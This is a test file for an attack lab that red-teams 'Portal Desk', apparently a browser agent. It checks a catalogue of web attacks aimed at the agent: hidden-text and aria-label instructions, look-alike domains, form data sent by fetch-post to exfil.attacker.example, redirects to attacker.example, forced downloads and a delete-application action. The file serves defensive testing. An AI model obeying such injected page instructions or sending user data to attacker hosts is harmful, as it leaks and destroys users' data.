import { createSocket } from 'node:dgram';
import { mkdtempSync, readFileSync } from 'node:fs';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, type Browser, type Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { CHROMIUM_FLAGS, chromiumPath } from '../../src/agent/browser/chromium';
import { startLab, type Lab } from '../../lab';
import { ATTACK_CATEGORIES, ATTACKS, DOWNLOAD_BYTES, findAttack, PLACEMENT_START } from '../../lab/attacks';
import { DownloadFolderWatch } from '../../lab/eval/suites/attacks';
import { signIn } from '../lab/support/browse';
import { LabClient } from '../lab/support/http-client';
import { httpSignIn, portalClient } from '../lab/support/http-flow';

/**
 * The attack lab itself: a catalogue that covers what the red team promised, attack content on
 * the portal's own pages for the configured client only, and records that see effects land. The
 * last block shows the records are live: a browser WITHOUT Portal Desk's guard, doing what the
 * attacks ask, makes every kind of effect show up in them.
 */

let lab: Lab;
beforeAll(async () => {
  lab = await startLab();
});
afterAll(async () => {
  await lab?.stop();
});
beforeEach(() => lab.reset());

describe('the catalogue', () => {
  it('holds at least 60 attacks with unique ids, every category, a one-line effect and the harms it aims at', () => {
    expect(ATTACKS.length).toBeGreaterThanOrEqual(60);
    expect(new Set(ATTACKS.map((a) => a.id)).size).toBe(ATTACKS.length);
    for (const category of ATTACK_CATEGORIES) expect(ATTACKS.filter((a) => a.category === category).length, category).toBeGreaterThan(0);
    for (const attack of ATTACKS) {
      expect(attack.effect.length, attack.id).toBeGreaterThan(20);
      expect(attack.harms.length, attack.id).toBeGreaterThan(0);
      expect(Object.keys(PLACEMENT_START)).toContain(attack.placement);
    }
  });

  it('includes every attack the red-team brief names', () => {
    const named = [
      'help-chat-download-all', 'hidden-text-instruction', 'low-opacity-instruction', 'save-draft-formaction', 'save-draft-script',
      'look-alike-userinfo', 'look-alike-suffix', 'look-alike-punycode', 'look-alike-homoglyph', 'look-alike-ip-literal', 'look-alike-other-port', 'look-alike-hyphen',
      'redirect-chain', 'off-list-iframe', 'window-open-on-load', 'target-blank-link', 'form-action-search-by-pan', 'meta-refresh', 'script-location-change',
      'javascript-url-navigates', 'data-url-link', 'blob-url-navigation', 'download-attribute-innocent-name', 'content-disposition-link', 'script-download-on-load',
      'image-beacon', 'fetch-post', 'send-beacon', 'error-message-instruction', 'alt-text-pay-now', 'aria-label-instruction', 'option-name-instruction',
      'pan-on-attacker-search', 'delete-application', 'pay-now-link', 'fake-otp-final-step', 're-enter-password',
    ];
    for (const id of named) expect(findAttack(id), id).toBeDefined();
  });
});

describe('attack content on the portal', () => {
  it('shows on the placement page of the configured client only, and is recorded as shown', async () => {
    lab.configure('victim', { attack: 'help-chat-download-all' });
    lab.configure('bystander', {});
    const victim = portalClient(lab, 'shops');
    expect((await victim.get('/sign-in')).body).not.toContain('Portal assistant');
    await httpSignIn(victim, 'victim');
    expect((await victim.get('/')).body).toContain('Download all saved documents');
    expect((await victim.follow('/apply/start')).body).not.toContain('Download all saved documents');
    const bystander = portalClient(lab, 'shops');
    await httpSignIn(bystander, 'bystander');
    expect((await bystander.get('/')).body).not.toContain('Download all saved documents');
    expect(lab.attackRecords().shown).toEqual([expect.objectContaining({ attack: 'help-chat-download-all', clientId: 'victim', portal: 'shops', path: '/' })]);
  });

  it('records risky actions, sink posts and redirects with the client, and every portal form post as received', async () => {
    lab.configure('victim', { attack: 'delete-application' });
    const client = portalClient(lab, 'shops');
    await httpSignIn(client, 'victim');
    expect((await client.post('/lab-attack/risky/delete-application?atk=delete-application', {})).status).toBe(200);
    await client.post('/lab-attack/sink?atk=portal-box-for-invented-text', { late_reason: 'approved by clerk' });
    const hop = await client.get(`/lab-attack/redirect?to=${encodeURIComponent('http://attacker.example/x')}&atk=open-redirect`);
    expect(hop).toMatchObject({ status: 302, location: 'http://attacker.example/x' });
    const { hits, portalPosts } = lab.attackRecords();
    expect(hits.map((h) => [h.kind, h.attack, h.clientId])).toEqual([
      ['risky', 'delete-application', 'victim'],
      ['sink', 'portal-box-for-invented-text', 'victim'],
      ['redirect', 'open-redirect', 'victim'],
    ]);
    expect(hits[0]!.action).toBe('delete-application');
    expect(portalPosts.map((p) => [p.path, p.body])).toEqual([
      ['/lab-attack/risky/delete-application', ''],
      ['/lab-attack/sink', 'late_reason=approved+by+clerk'],
    ]);
  });

  it('tells a download the client took in full from one it cut off', async () => {
    expect(await fetchBytes(lab.port, '/lab-attack/download/all.zip?atk=a', Infinity)).toBe(DOWNLOAD_BYTES);
    await fetchBytes(lab.port, '/lab-attack/download/cut.zip?atk=b', 256 * 1024);
    await expect.poll(() => lab.attackRecords().hits.map((h) => [h.attack, h.completed]), { timeout: 15_000 }).toEqual([
      ['a', true],
      ['b', false],
    ]);
  });

  it('counts requests on the attacker port (the portal host on another port) and sockets to attacker hosts', async () => {
    const otherPort = new LabClient(lab.attackerPort, 'shops.portal.example');
    await otherPort.get('/renew?atk=look-alike-other-port');
    await upgrade(lab.port, 'exfil.attacker.example', '/socket?d=1');
    await expect
      .poll(() => lab.attackerRequests().map((r) => `${r.method} ${r.host}${r.path}`))
      .toEqual([`GET shops.portal.example:${lab.attackerPort}/renew?atk=look-alike-other-port`, 'UPGRADE exfil.attacker.example/socket?d=1']);
  });

  it('counts datagrams on the attacker port (WebRTC: ICE checks, STUN, TURN)', async () => {
    const udp = createSocket('udp4');
    await new Promise<void>((resolve) => udp.send(Buffer.from([0, 1, 0, 0]), lab.attackerPort, '127.0.0.1', () => resolve()));
    udp.close();
    await expect.poll(() => lab.attackerRequests().map((r) => `${r.method} ${r.host}${r.path}`)).toEqual([`UDP udp:${lab.attackerPort}/datagram`]);
  });
});

describe('the records see what lands (a browser without the guard)', () => {
  let browser: Browser;
  const downloads = mkdtempSync(join(tmpdir(), 'pd-unguarded-'));
  const landed = new DownloadFolderWatch(downloads);
  beforeAll(async () => {
    // Without the guard's launch flag for WebRTC either: that flag is part of the guard.
    const flags = CHROMIUM_FLAGS.filter((flag) => !flag.startsWith('--webrtc-ip-handling-policy'));
    browser = await chromium.launch({ executablePath: chromiumPath(), args: [...flags, `--host-resolver-rules=${lab.hostResolverRules}`], downloadsPath: downloads });
  });
  afterAll(async () => {
    await browser?.close();
    landed.close();
  });

  it('attacker requests and documents, a completed download, a risky action, a leaked field and WebRTC datagrams all land', async () => {
    const visit = async (clientId: string, attack: string, act: (page: Page) => Promise<unknown>) => {
      const context = await browser.newContext({ acceptDownloads: true });
      try {
        const page = await context.newPage();
        lab.configure(clientId, { attack });
        await page.goto(`${lab.origin('shops')}/sign-in`);
        await signIn(page, lab, 'shops', clientId);
        await page.goto(`${lab.origin('shops')}${PLACEMENT_START[findAttack(attack)!.placement]}`);
        await act(page);
      } finally {
        await context.close();
      }
    };
    await visit('u-script', 'script-location-change', (page) => page.waitForURL(/script\.attacker\.example/, { timeout: 15_000 }));
    await visit('u-dl', 'download-attribute-innocent-name', async (page) => {
      const download = page.waitForEvent('download');
      await page.getByRole('link', { name: 'View your documents' }).click();
      await (await download).path();
    });
    await visit('u-delete', 'delete-application', (page) => page.getByRole('button', { name: 'Delete application' }).click());
    await visit('u-fetch', 'fetch-post', async (page) => {
      await page.locator('input[name=business_name]').fill('Typed by someone');
      await expect.poll(() => lab.attackerRequests().some((r) => r.host === 'exfil.attacker.example' && r.body.includes('Typed+by+someone')), { timeout: 15_000 }).toBe(true);
    });
    await visit('u-rtc', 'webrtc-udp', () => expect.poll(() => lab.attackerRequests().some((r) => r.method === 'UDP'), { timeout: 15_000 }).toBe(true));
    const records = lab.attackRecords();
    // The download's request reached the lab, and the file landed in the browser's download folder (asserted below).
    // The lab's own "every byte drained" flag stays false on this machine even at the commit before this session
    // (Chromium 150 here keeps the last chunk's socket open); what landed is the folder, so that is the proof kept.
    expect(records.hits.some((h) => h.kind === 'download')).toBe(true);
    expect(records.attackerDocuments.some((d) => d.host === 'script.attacker.example')).toBe(true);
    expect(records.hits.some((h) => h.kind === 'risky' && h.clientId === 'u-delete')).toBe(true);
    // Playwright deletes a context's downloads when it closes; the watch saw the file land.
    expect(landed.files().length).toBeGreaterThan(0);
  }, 240_000);
});

/** GETs a path on the portal host and stops reading after `limit` bytes; answers the bytes read. */
function fetchBytes(port: number, path: string, limit: number): Promise<number> {
  return new Promise((resolve, reject) => {
    const req = request({ host: '127.0.0.1', port, path, headers: { host: `shops.portal.example:${port}` } }, (res) => {
      let read = 0;
      res.on('data', (chunk: Buffer) => {
        read += chunk.length;
        if (read >= limit) {
          res.destroy();
          resolve(read);
        }
      });
      res.on('end', () => resolve(read));
      res.on('error', () => resolve(read));
    });
    req.on('error', reject);
    req.end();
  });
}

/** Sends a WebSocket upgrade request to `host` on the lab and waits for the connection to end. */
function upgrade(port: number, host: string, path: string): Promise<void> {
  return new Promise((resolve) => {
    const req = request({ host: '127.0.0.1', port, path, headers: { host, connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-version': '13', 'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==' } });
    req.on('error', () => resolve());
    req.on('close', () => resolve());
    req.on('upgrade', () => resolve());
    req.end();
  });
}

describe('the catalogue README', () => {
  it('lists every attack', () => {
    const readme = readFileSync(join(__dirname, '../../lab/attacks/README.md'), 'utf8');
    for (const attack of ATTACKS) expect(readme, attack.id).toContain(`\`${attack.id}\``);
  });
});
